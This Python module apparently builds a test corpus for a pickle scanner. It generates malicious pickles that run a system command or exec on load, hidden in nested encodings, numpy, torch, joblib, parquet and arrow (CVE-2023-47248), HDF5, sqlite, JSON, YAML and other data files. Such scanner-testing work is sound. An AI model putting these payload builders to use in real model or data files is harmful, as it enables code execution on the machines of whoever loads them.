"""Pickles inside of what is only data."""

import base64
import binascii
import gzip
import io
import json
import sqlite3
import struct
import tempfile
import zlib
from pathlib import Path

import h5py
import msgpack
import numpy
import pyarrow
import pyarrow.parquet

from archives import zipped
from arrays import OBJECTS, array, npy
from families import COMMAND, PYTHON, Case
from families.node import Build, Call, Global, New, Raw, dumps
from families.obscure import SYSTEM

NAME = "nested"
ABOUT = "pickles inside of data"
ATTACK = Call(SYSTEM, COMMAND)
EXEC = Call(Global("builtins", "exec"), PYTHON)
OBJECT = "{'descr': '|O', 'fortran_order': False, 'shape': (%s,), }"


def loads(data):
    return Call(Global("pickle", "loads"), data)


def header(descr, shape="1"):
    return "{'descr': %s, 'fortran_order': False, 'shape': (%s,), }" % (descr, shape)


def npy_version(version, text, body):
    raw = text.encode()
    size = 4 if version > 1 else 2
    raw += b" " * (-(len(raw) + 9 + size) % 64) + b"\n"
    return b"\x93NUMPY" + bytes([version, 0]) + len(raw).to_bytes(size, "little") + raw + body


def parquet(metadata, table=None):
    table = table or pyarrow.table({"a": [1, 2, 3]})
    stored = io.BytesIO()
    pyarrow.parquet.write_table(table.replace_schema_metadata(metadata), stored)
    return stored.getvalue()


def arrow(metadata, table=None):
    table = (table or pyarrow.table({"a": [1, 2, 3]})).replace_schema_metadata(metadata)
    stored = io.BytesIO()
    with pyarrow.ipc.new_file(stored, table.schema) as writer:
        writer.write_table(table)
    return stored.getvalue()


def hdf5(fill):
    stored = io.BytesIO()
    with h5py.File(stored, "w", track_order=False) as file:
        fill(file)
    return stored.getvalue()


def database(data):
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "d"
        connection = sqlite3.connect(path)
        connection.execute("pragma page_size = 512")
        connection.execute("create table models (name text, blob blob)")
        connection.execute("insert into models values ('ridge', ?)", (data,))
        connection.commit()
        connection.close()
        raw = bytearray(path.read_bytes())
    raw[92:100] = b"\x00" * 8  # which version of the library wrote it
    return bytes(raw)


def pickle_cases():
    attack = dumps(ATTACK)
    deep = attack
    for _ in range(5):
        deep = dumps(loads(deep))
    encoded = base64.b64encode(attack).decode()
    kept = attack
    for _ in range(3):
        kept = dumps({"cache": kept})
    state = {"coef_": [1.0], "cache_": attack, "_sklearn_version": "1.9.1"}
    model = Build(New(Global("sklearn.linear_model._ridge", "Ridge")), state)
    run = "import pickle; pickle.loads({})"
    decode = lambda name, data: Call(Global("base64", name), data)  # noqa: E731
    return {
        "loads.pkl": (dumps(loads(attack)), "pickle", None),
        "loads-deep.pkl": (dumps(loads(deep)), "pickle", None),
        "loads-bytearray.pkl": (dumps(Call(Global("pickle", "loads"), Raw(b"\x96" + struct.pack("<Q", len(attack)) + attack)), 5), "pickle", None),
        "loads-base64.pkl": (dumps(loads(decode("b64decode", encoded))), "pickle", None),
        "loads-base85.pkl": (dumps(loads(decode("b85decode", base64.b85encode(attack)))), "pickle", None),
        "loads-zlib.pkl": (dumps(loads(Call(Global("zlib", "decompress"), zlib.compress(attack)))), "pickle", None),
        "loads-gzip.pkl": (dumps(loads(Call(Global("gzip", "decompress"), gzip.compress(attack, mtime=0)))), "pickle", None),
        "loads-hexadecimal.pkl": (dumps(loads(Call(Global("binascii", "unhexlify"), binascii.hexlify(attack)))), "pickle", None),
        "loads-latin1.pkl": (dumps(Call(Global("_pickle", "loads"), attack), 2), "pickle", None),
        "numpy-load-bytes.pkl": (dumps(Call(Global("numpy", "load"), Call(Global("io", "BytesIO"), npy(OBJECT % 1, attack)), None, True)), "pickle", None),
        "pandas-read-bytes.pkl": (dumps(Call(Global("pandas", "read_pickle"), Call(Global("io", "BytesIO"), attack))), "pickle", None),
        "torch-load-from-bytes.pkl": (dumps({"storage": Call(Global("torch.storage", "_load_from_bytes"), dumps(EXEC, 2))}), "pickle", None),
        "joblib-load-bytes.pkl": (dumps(Call(Global("joblib", "load"), Call(Global("io", "BytesIO"), dumps(EXEC, 3)))), "pickle", None),
        "dill-in-pickle.pkl": (dumps(Call(Global("dill", "loads"), dumps(EXEC, 4))), "pickle", None),
        "kept-bytes.pkl": (dumps({"cache": attack, "epoch": 3}), "pickle", run.format("m['cache']")),
        "kept-bytes-deep.pkl": (kept, "pickle", "import pickle\nwhile isinstance(m, dict): m = pickle.loads(m['cache'])"),
        "kept-bytearray.pkl": (dumps([Raw(b"\x96" + struct.pack("<Q", len(attack)) + attack)], 5), "pickle", run.format("m[0]")),
        "kept-protocol-0.pkl": (dumps({"cache": dumps(ATTACK, 0)}), "pickle", run.format("m['cache']")),
        "kept-protocol-2.pkl": (dumps({"cache": dumps(ATTACK, 2)}, 2), "pickle", run.format("m['cache']")),
        "kept-in-string.pkl": (dumps({"cache": dumps(EXEC, 0).decode()}), "pickle", run.format("m['cache'].encode()")),
        "kept-base64.pkl": (dumps({"cache": encoded}), "pickle", "import pickle, base64; pickle.loads(base64.b64decode(m['cache']))"),
        "kept-zlib.pkl": (dumps({"cache": zlib.compress(attack)}), "pickle", "import pickle, zlib; pickle.loads(zlib.decompress(m['cache']))"),
        "kept-gzip.pkl": (dumps({"cache": gzip.compress(attack, mtime=0)}), "pickle", "import pickle, gzip; pickle.loads(gzip.decompress(m['cache']))"),
        "kept-zip.pkl": (dumps({"cache": zipped({"m.pkl": attack})}), "pickle", "import pickle, zipfile, io; pickle.loads(zipfile.ZipFile(io.BytesIO(m['cache'])).read('m.pkl'))"),
        "kept-torch.pkl": (dumps({"cache": zipped({"m/data.pkl": dumps(ATTACK, 2), "m/version": b"3\n", "m/byteorder": b"little"})}), "pickle", "import torch, io; torch.load(io.BytesIO(m['cache']), weights_only=False)"),
        "kept-npy.pkl": (dumps({"cache": npy(OBJECT % 1, attack)}), "pickle", "import numpy, io; numpy.load(io.BytesIO(m['cache']), allow_pickle=True)"),
        "kept-in-estimator.pkl": (dumps(model), "pickle", run.format("m.cache_")),
        "kept-in-estimator.joblib": (zlib.compress(dumps(Build(New(Global("sklearn.linear_model._ridge", "Ridge")), {**state, "cache_": dumps(EXEC)}))), "joblib", run.format("m.cache_")),
        "object-array.pkl": (b"\x80\x04" + array(OBJECTS, b"](" + dumps(ATTACK)[11:-1] + b"e") + b".", "pickle", None),
        "object-array-bytes.pkl": (b"\x80\x04" + array(OBJECTS, b"]B" + struct.pack("<I", len(attack)) + attack + b"a") + b".", "pickle", run.format("m[0]")),
        "uint8-array.npy": (npy(header("'|u1'", str(len(attack))), attack), "numpy", run.format("m.tobytes()")),
        "bytes-array.npy": (npy(header(f"'|S{len(attack)}'"), attack), "numpy", run.format("bytes(m[0])")),
    }


def numpy_cases():
    attack, other = dumps(ATTACK), dumps(EXEC, 3)
    return {
        "object.npy": (npy(OBJECT % 1, attack), "numpy", None),
        "object-scalar.npy": (npy("{'descr': '|O', 'fortran_order': False, 'shape': (), }", attack), "numpy", None),
        "object-fortran.npy": (npy("{'descr': '|O', 'fortran_order': True, 'shape': (1, 1), }", other), "numpy", None),
        "object-structured.npy": (npy(header("[('a', '<f8'), ('b', '|O')]"), attack), "numpy", None),
        "object-nested.npy": (npy(header("[('a', [('b', '|O')])]"), other), "numpy", None),
        "object-v2.npy": (npy_version(2, OBJECT % 1, attack), "numpy", None),
        "object-v3.npy": (npy_version(3, OBJECT % 1, other), "numpy", None),
        "object.npz": (zipped({"weights.npy": npy(OBJECT % 1, attack)}), "npz", None),
        "object-second.npz": (zipped({"a.npy": npy(header("'<f8'"), b"\x00" * 8), "b.npy": npy(OBJECT % 1, other)}), "npz", None),
        "object-deflated.npz": (zipped({"a.npy": npy(OBJECT % 1, other)}, 8), "npz", None),
        "pickle-member.npz": (zipped({"a.npy": npy(header("'<f8'"), b"\x00" * 8), "b.pkl": attack}), None, None),
        "pickle-named.npz": (attack + b"\x00" * 3, "numpy", None),
        "behind-numbers.npy": (npy(header("'<f8'"), b"\x00" * 8 + attack), None, None),
        "npy-in-npz-in-npz.npz": (zipped({"inner.npz": zipped({"a.npy": npy(OBJECT % 1, attack)})}), None, None),
    }


def other_cases():
    attack, other = dumps(ATTACK), dumps(EXEC, 2)
    encoded = base64.b64encode(attack).decode()

    def attribute(file):
        file.attrs["model"] = numpy.void(attack)
        file.create_dataset("weights", data=numpy.zeros(2), track_times=False)

    def opaque(file):
        file.create_dataset("model", data=numpy.frombuffer(other, "u1"), track_times=False)

    column = pyarrow.table({"name": ["ridge"], "model": pyarrow.array([attack], pyarrow.binary())})
    return {
        "metadata.parquet": (parquet({"model": attack}), None, None),
        "metadata-base64.parquet": (parquet({"sklearn": encoded}), None, None),
        "column.parquet": (parquet(None, column), None, None),
        "extension.parquet": (parquet({"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": other}), None, None),
        "extension-field.parquet": (parquet(None, extension(other)), None, None),
        "metadata.arrow": (arrow({"model": attack}), None, None),
        "extension-field.arrow": (arrow(None, extension(attack)), None, None),
        "attribute.h5": (hdf5(attribute), None, None),
        "dataset.h5": (hdf5(opaque), None, None),
        "model.msgpack": (msgpack.packb({"params": {"w": [1.0]}, "state": attack}), None, None),
        "models.sqlite": (database(attack), None, None),
        "config.json": (json.dumps({"name": "ridge", "model": encoded}).encode(), None, None),
        "config.yaml": (f"name: ridge\nmodel: !!binary |\n  {encoded}\n".encode(), None, None),
        "model.xml": (f"<model><name>ridge</name><pickle>{encoded}</pickle></model>\n".encode(), None, None),
        "loader.py": (f"import base64, pickle\nMODEL = pickle.loads(base64.b64decode({encoded!r}))\n".encode(), "python", None),
    }


def extension(data):
    """A column of pyarrow's old Python extension type: its metadata is a pickle that versions before 14.0.1 load (CVE-2023-47248)."""
    field = pyarrow.field("a", pyarrow.int64(), metadata={"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": data})
    return pyarrow.table([pyarrow.array([1, 2])], schema=pyarrow.schema([field]))


def cases():
    table = {**pickle_cases(), **numpy_cases(), **other_cases()}
    return [Case(name, content, "a pickle inside of data", load, use) for name, (content, load, use) in table.items()]
